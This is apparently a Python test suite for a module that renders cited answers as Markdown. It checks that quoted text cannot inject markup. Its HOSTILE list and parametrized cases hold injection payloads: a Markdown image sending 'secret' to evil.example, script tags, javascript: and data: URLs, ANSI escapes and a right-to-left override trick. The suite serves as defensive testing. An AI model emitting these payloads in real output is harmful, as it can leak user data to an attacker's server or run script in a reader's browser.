"""Answers as Markdown: the marks are where they are said to be, and nothing that was quoted is markup."""

from __future__ import annotations

from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from api.footnotes import footnoted, inert
from api.routes.examples import ANSWER
from api.schemas import AnswerJson

HOSTILE = [
    "![x](https://evil.example/p.png?d=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "<img src=https://evil.example/p.png>",
    "<https://evil.example>",
    "<script>alert(1)</script>",
    "`code` ``more``",
    "# heading\n- list\n> quote\n1. one",
    "a | b\n--|--\nc | d",
    "\\[click](https://evil.example)",
    "\\\\[click](https://evil.example)",
    "**bold** __bold__ ~~gone~~",
    "\x1b[31mred\x1b[0m \u202egnp.exe",
    "see https://evil.example and www.evil.example or mail me@evil.example",
    "&lt;b&gt; &#91;x&#93;",
]
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def answer_saying(text: str, **fields: Any) -> AnswerJson:
    """Return an answer whose every text is the given one."""
    citation = dict(ANSWER["citations"][0])
    spoken = {"title": text, "publisher": text, "quote": text, "url": "https://example.com/a?b=1&c=[2]"}
    made: dict[str, Any] = {
        **ANSWER,
        "statements": [{"text": text, "citations": [1]}, {"text": "And more.", "citations": [1, 1]}],
        "citations": [citation | spoken],
        **fields,
    }
    return cast("AnswerJson", made)


def kinds_in(markdown: str) -> set[str]:
    """Return the kinds of token that a Markdown reader finds."""
    found = set()
    for token in PARSER.parse(markdown):
        found.add(token.type)
        found |= {child.type for child in token.children or ()}
    return found


PLAIN = {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "softbreak", "hardbreak"}


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_quoted_makes_no_markup(text: str) -> None:
    """Whatever a document says, the only markup is the link to the document itself."""
    shown = footnoted(answer_saying(text)).text
    links = [
        child.attrs["href"]
        for token in PARSER.parse(shown)
        for child in token.children or ()
        if child.type == "link_open"
    ]

    assert kinds_in(shown) <= PLAIN | {"link_open", "link_close"}
    assert {"https://example.com/a?b=1&c=%5B2%5D"} == set(links)
    assert "https://evil" not in shown
    assert "www.evil" not in shown
    assert "\x1b" not in shown
    assert "\u202e" not in shown


@given(st.text(st.sampled_from("![]()<>`\\*_~#|-+.:/=&;123 ab\n\"'https://www.@"), max_size=60))
def test_no_text_makes_markup(text: str) -> None:
    """Any text of markup characters stays text, beside emphasis, which does no harm."""
    found = kinds_in("x " + inert(text) + " y")

    assert found <= PLAIN | {"em_open", "em_close", "strong_open", "strong_close"}


def test_the_marks_stand_where_they_are_said_to() -> None:
    """Every mark is at its offsets in the text, and the pieces are the text."""
    text = footnoted(answer_saying("A fact [2] of 5 GW.", missing={"what": "No date.", "terms": [], "closest": []}))

    assert ["[1]", "[1]", "[1]"] == [text.text[mark.start : mark.end] for mark in text.marks]
    assert text.text == "".join(text.pieces)
    assert "A fact \\[2\\] of 5 GW. [1]\n\nAnd more. [1] [1]\n\nNo date.\n\n[1] A fact" in text.text


def test_an_answer_without_evidence_names_what_is_closest() -> None:
    """What is missing comes first, then the evidence or the documents that come closest."""
    missing = {"what": "The corpus does not say.", "terms": [], "closest": ["One", "Two"]}
    none = footnoted(answer_saying("x", statements=[], citations=[], missing=missing, status="insufficient"))
    some = footnoted(answer_saying("x", statements=[], missing=missing, status="insufficient"))

    assert "The corpus does not say.\n\nThe closest documents: One; Two" == none.text
    assert some.text.startswith("The corpus does not say.\n\nThe closest evidence:  \n")


@pytest.mark.parametrize("url", [None, "javascript:alert(1)", "data:text/html,x", "ftp://example.com/x", ""])
def test_only_web_addresses_are_links(url: str | None) -> None:
    """A citation without one still has its footnote."""
    (citation,) = ANSWER["citations"]
    shown = footnoted(answer_saying("x", citations=[{**citation, "url": url}])).text

    assert "link_open" not in kinds_in(shown)
    assert "[1] " in shown


def test_a_follow_up_is_shown_as_it_was_understood() -> None:
    """It comes first, inert as all text is, and the marks stand where they say."""
    shape: AnswerJson = {**ANSWER, "resolved_question": "What did [Microsoft](https://evil.example) commit?"}
    shown = footnoted(shape)

    assert shown.text.startswith("Understood as: What did \\[Microsoft\\](https\\://evil.example) commit?\n\n")
    assert [f"[{mark.number}]" for mark in shown.marks] == [shown.text[mark.start : mark.end] for mark in shown.marks]
    assert shown.marks
